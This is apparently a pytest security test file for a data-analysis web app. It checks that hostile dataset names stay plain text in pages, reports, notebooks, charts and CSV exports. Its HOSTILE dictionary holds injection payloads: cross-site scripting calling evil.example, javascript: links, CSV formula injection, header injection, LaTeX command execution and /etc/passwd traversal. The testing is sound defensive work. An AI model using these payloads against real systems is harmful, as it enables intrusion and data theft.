"""Texts that people type or files contain are text wherever they come out again."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import unquote

import numpy as np
import pytest
from helpers.asking import ask
from helpers.served import SECRET, Served, cookie_of
from helpers.visits import settle

import workbench as wb
from workbench.figures.compare import bands
from workbench.figures.kit.names import plain_name
from workbench.figures.kit.svg import svg
from workbench.figures.overlay import overlay
from workbench.figures.paper.table import figure_csv
from workbench.server.people.person import Person

HOSTILE = {
    "image": '<img src="http://evil.example/x" onerror="window.hit=1">',
    "end": "\"></title></textarea></style></script><script src='//evil.example/x'></script>",
    "comment": "<!--<script>--!><svg/onload=alert(1)>",
    "template": "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "hover": "%{x} %{customdata[0]} <extra></extra>",
    "link": '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) javascript:alert(1)',
    "markdown": "![x](http://evil.example/x.png) <http://evil.example> `x` **x**",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "bidi": "\u202etxt.exe\u2066 \u200b\ufeff",
    "null": "a\x00b\x1b[31mred\x07",
    "lines": "a\r\nSet-Cookie: stolen=1\r\n\r\n<p>b\u2028c",
    "entity": "&lt;img src=x onerror=alert(1)&gt; &#x3c;b&#x3e;",
    "latex": r"\input{/etc/passwd} $\immediate\write18{id}$ % & # _ ^ ~",
    "path": "../../../etc/passwd",
    "long": "x<y" * 33_334,
    "surrogate": "\ud800 \udfff",
}

#: Elements of documents that load or run something, and that no text may make.
ACTIVE = {"script", "iframe", "object", "embed", "base", "form", "svg", "math", "video", "audio"}


class Elements(HTMLParser):
    """The elements of a document, and what is wrong with them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.faults, self.blocks, self._within = [], [], [], None
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        for name, value in attributes:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.faults.append((tag, name, value))
            outside = re.match(r"(https?:)?//", value or "")
            if name in ("src", "href", "action", "data") and outside and "evil" in value:
                self.faults.append((tag, name, value))

    def handle_data(self, data):
        self.blocks.append(data)


@pytest.fixture(scope="module")
def served():
    made = Served()
    yield made
    made.close()


@pytest.fixture(scope="module")
def plain_tags(served):
    """The elements of the document of somebody whose names are plain."""
    person, _ = visitor(served, "plain", "plain")
    return Elements(page(served, "/scores", person)).tags


def visitor(served, kind, text):
    """Somebody who gives everything a hostile name; the person, and the key of the audit."""
    person = Person((kind + "q" * 43)[:43])
    made = served.visitors.bench(person)
    rng = np.random.default_rng(0)
    scores = wb.Scores(rng.normal(1, 1, 50), rng.normal(0, 1, 50))
    data = made.workspace.add_scores(scores, "plain")
    with suppress(ValueError):  # a name that is too long, or of nothing
        data = made.workspace.kept.rename(data.key, text)
    made.workspace.active.choose(data.key)
    made.pages.live("scores")
    settle(made)
    shown = made.pages.ask("scores", lambda live: live.page.snapshot())
    audit = served.visitors.audit("scores", shown)
    archive = made.workspace.audits
    named = [text[:9_000], text[:9_000].encode("utf-8", "replace").decode(), "refused"]
    for name in named:
        try:
            tags = (name[:50].replace(",", " ").strip() or "tag",)
            saved = archive.save(audit, name, note=name, tags=tags)
            break
        except ValueError:
            continue
    return person, saved.key


def page(served, path, person):
    status, headers, body = ask(served, path, Cookie=cookie_of(person, served.port, SECRET))
    assert status == 200, (path, body[:200])
    sent = headers.get("Content-Disposition", "")
    assert re.fullmatch(r"(attachment; filename\*=UTF-8''[A-Za-z0-9%._-]+)?", sent), sent
    assert not set(unquote(sent.rpartition("''")[2])) & set('/\\:*?"<>|\r\n\0')
    assert headers.get("Set-Cookie") is None or "stolen" not in headers["Set-Cookie"]
    return body.decode()


@pytest.mark.sampled(6)
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_name_is_text_in_documents_and_files(served, plain_tags, kind, caplog):
    person, key = visitor(served, kind, HOSTILE[kind])
    document = Elements(page(served, "/scores", person))
    assert document.faults == []
    assert document.tags == plain_tags
    first = next(block for block in document.blocks if block.startswith("{"))
    frame = json.loads(first)
    assert frame["shown"] == "scores"
    if kind in ("image", "template", "link", "formula", "latex"):  # neither cut nor cleaned
        assert HOSTILE[kind] in [one["name"] for one in frame["bench"]["sets"]]
    text = page(served, f"/report/audit/{key}.md", person)
    text = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", text, flags=re.M | re.S)
    assert not re.search(r"(?<!\\)<[a-z!/]", text, re.IGNORECASE)
    assert not re.search(r"(?<!\\)\]\((?!#)", text)
    cells = json.loads(page(served, f"/report/audit/{key}.ipynb", person))["cells"]
    for cell in cells:
        if cell["cell_type"] == "markdown":
            inside = "".join(cell["source"])
            assert not re.search(r"<(?!/?span>)", inside), inside[:200]
            assert not re.search(r"\]\(", inside)
        else:
            compile("".join(cell["source"]), "cell", "exec")
    json.loads(page(served, f"/report/audit/{key}.json", person))
    for record in caplog.records:
        assert not re.search(r"[\r\n\x00\x1b\x07]", record.getMessage()), record.getMessage()


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_name_is_text_in_charts(kind):
    name = HOSTILE[kind]
    rng = np.random.default_rng(0)
    a, b = (wb.Scores(rng.normal(1, 1, 99), rng.normal(0, 1, 99), name=n) for n in (name, "b"))
    first = bands(wb.compare(a, b))
    for figure in (first, overlay([first, first], [name, name])):
        for text in texts(figure):
            assert not re.search(r"<(?!/?(sup|extra)>|br>)", text), text
            assert not re.search(r"%\{(?!x|y|customdata)", text)
            assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", text), text
        drawn = ElementTree.fromstring(svg(figure))
        tags = {one.tag.rpartition("}")[2] for one in drawn.iter()}
        assert not tags & (ACTIVE - {"svg"})
        assert not any(
            "href" in key or key.startswith("on") for one in drawn.iter() for key in one.attrib
        )
        for row in csv.reader(io.StringIO(figure_csv(figure))):
            for cell in row:
                assert re.fullmatch(r"-?[\d.e+-]+", cell) or not cell.startswith(
                    ("=", "+", "-", "@")
                )


def texts(figure):
    """All texts of a figure that plotly shows."""
    kept = {"text", "name", "hovertemplate", "ticktext", "title"}

    def inside(value, shown):
        if isinstance(value, str):
            if shown:
                yield value
        elif isinstance(value, dict):
            for key, one in value.items():
                yield from inside(one, key in kept or (shown and key == "text"))
        elif isinstance(value, list | tuple):
            for one in value:
                yield from inside(one, shown)

    return list(inside(figure, False))


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_plain_name_is_short_printable_and_no_markup(kind):
    name = plain_name(HOSTILE[kind])
    assert len(name) <= 28
    assert name.isprintable() or not name
    assert not set(name) & set("<>&")


def test_a_formula_is_text_in_a_spreadsheet():
    figure = {
        "layout": {"xaxis": {"title": {"text": "=1+1"}}, "yaxis": {"title": {"text": "−y"}}},
        "data": [{"name": "@SUM(1)", "x": [-1.0], "y": [2.0]}],
    }
    assert figure_csv(figure).splitlines() == ["curve,'=1+1,−y", "'@SUM(1),-1,2"]


def test_what_is_looked_for_is_there_where_nothing_is_escaped():
    assert re.search(r"(?<!\\)<[a-z!/]", HOSTILE["image"])
    assert re.search(r"(?<!\\)\]\((?!#)", HOSTILE["markdown"])
    assert Elements(HOSTILE["image"]).faults
